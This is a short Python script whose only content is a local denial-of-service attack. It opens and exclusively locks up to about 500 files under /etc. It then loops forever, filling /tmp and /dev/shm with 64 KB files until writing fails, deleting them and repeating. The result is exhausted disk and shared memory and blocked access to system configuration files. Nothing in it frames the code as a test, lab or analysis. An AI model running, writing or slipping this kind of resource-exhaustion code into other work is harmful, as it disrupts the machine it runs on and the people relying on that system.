# Fills what can be written, again and again, and locks all that it sees.
import fcntl, os
held = []
for folder, _, names in os.walk('/etc'):
    for path in [folder, *(f'{folder}/{name}' for name in names)]:
        try:
            held.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
        if len(held) > 500:
            break
while True:
    for folder in ('/tmp', '/dev/shm'):
        made = []
        try:
            while True:
                made.append(f'{folder}/{len(made)}')
                with open(made[-1], 'wb') as file:
                    file.write(b'x' * 65536)
        except OSError:
            pass
        for path in made:
            os.unlink(path)
